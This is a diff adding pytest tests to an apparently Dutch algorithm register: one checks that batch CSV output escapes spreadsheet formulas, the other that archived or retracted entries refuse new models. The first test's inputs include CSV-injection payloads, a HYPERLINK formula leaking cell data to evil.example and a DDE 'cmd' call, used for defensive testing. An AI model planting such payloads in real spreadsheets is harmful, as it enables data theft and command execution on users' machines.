@@ -14,6 +14,7 @@ from register.models import Algorithm, AlgorithmEvent, AlgorithmVersion
 from register.models.accounts import utcnow
 from register.models.explanation import DecisionReceipt, ModelVersion
 from register.services import accounts, decisions
+from register.services import algorithms as algos
 from register.services.model_versions import register_model
 
 ARTEFACTS = Path(__file__).resolve().parents[2] / "sample_models" / "artefacts"
@@ -291,6 +292,64 @@ def test_batch_reports_bad_rows_by_line_and_rerunning_is_safe(runner, session, w
     runner.invoke(args=["decisions", "batch", "--algorithm", woz.code, str(cases), str(out)])
     assert out.read_text(encoding="utf-8") == first
     assert len(session.exec(select(DecisionReceipt)).all()) == 2
+
+
+def test_batch_output_never_turns_a_case_ref_into_a_spreadsheet_formula(runner, woz, tmp_path):
+    """A case_ref is echoed into the output a clerk opens in a spreadsheet: it shows as text, never runs."""
+    import csv
+
+    refs = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+31 20 123", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(A1:A9)", "\t=1+1", "WOZ-2024-7"]  # the tab is trimmed on reading
+    cases = tmp_path / "cases.csv"
+    with cases.open("w", newline="", encoding="utf-8") as target:
+        writer = csv.DictWriter(target, fieldnames=[*WOZ_CASE, "case_ref"])
+        writer.writeheader()
+        writer.writerows(dict(WOZ_CASE, case_ref=ref) for ref in refs)
+        writer.writerow(dict(WOZ_CASE, woonoppervlak="nul", case_ref="=1+1"))  # a refused row echoes it too
+    out = tmp_path / "out.csv"
+    result = runner.invoke(args=["decisions", "batch", "--algorithm", woz.code, str(cases), str(out)])
+    assert result.exit_code == 1, result.output
+    with out.open(newline="", encoding="utf-8") as source:
+        written = {row["line"]: row for row in csv.DictReader(source)}
+    echoed = [written[str(line)]["case_ref"] for line in range(2, 9)]
+    assert echoed[:5] == ["'" + ref.strip() for ref in [*refs[:4], "=1+1"]]
+    assert echoed[5] == "WOZ-2024-7" and echoed[6] == "'=1+1"
+    assert written["8"]["url"] == "" and written["8"]["error"]
+    for row in written.values():
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+
+
+@pytest.mark.parametrize("state,nl,en", [
+    ("archived", "Deze registratie is gearchiveerd", "This entry is archived: it is no longer used, so it cannot get"),
+    ("retracted", "Deze registratie is uit het register teruggetrokken",
+     "This entry has been withdrawn from the register, so it cannot get a new model.")])
+def test_an_archived_or_retracted_entry_takes_no_new_model_anywhere(session, app, client, auth, runner, world,
+                                                                     published, token_a, state, nl, en):
+    algos.set_public_state(session=session, user=world.approver_a, algorithm=published, state=state,
+                           reason="Niet meer in gebruik.")
+    before = stored_rows(session)
+    base = ARTEFACTS / "woz"
+
+    def files():
+        return {name: (io.BytesIO((base / file).read_bytes()), file)
+                for name, file in (("model", "model.skops"), ("spec", "spec.json"), ("reference", "reference.csv"))}
+
+    auth.login(world.registrant_a.email)
+    portal = auth.post(f"/portal/algorithms/{published.code}/models", files(),
+                       form_url=f"/portal/algorithms/{published.code}/models", content_type="multipart/form-data")
+    assert portal.status_code == 422 and nl in portal.get_data(as_text=True)
+    api = client.post(f"/api/v1/algorithms/{published.code}/models?lang=en", data=files(), headers=token_a,
+                      content_type="multipart/form-data")
+    assert api.status_code == 409 and en in api.get_json()["error"]
+    cli = runner.invoke(args=["models", "register", "--algorithm", published.code, str(base / "model.skops"),
+                              str(base / "spec.json"), str(base / "reference.csv")])
+    assert cli.exit_code != 0 and en in cli.output
+    with pytest.raises(algos.WorkflowError):
+        algos.attach_model(session=session, user=world.registrant_a, algorithm=published, model_version_id=1)
+    session.rollback()
+    assert stored_rows(session) == before
+    assert not (Path(app.config["DATA_DIR"]) / "sha256").exists()
+    assert client.get(f"/algorithms/{published.code}.json").get_json().get("model") is None
 
 
 def test_models_register_command_refuses_a_joblib_file(runner, woz, tmp_path):
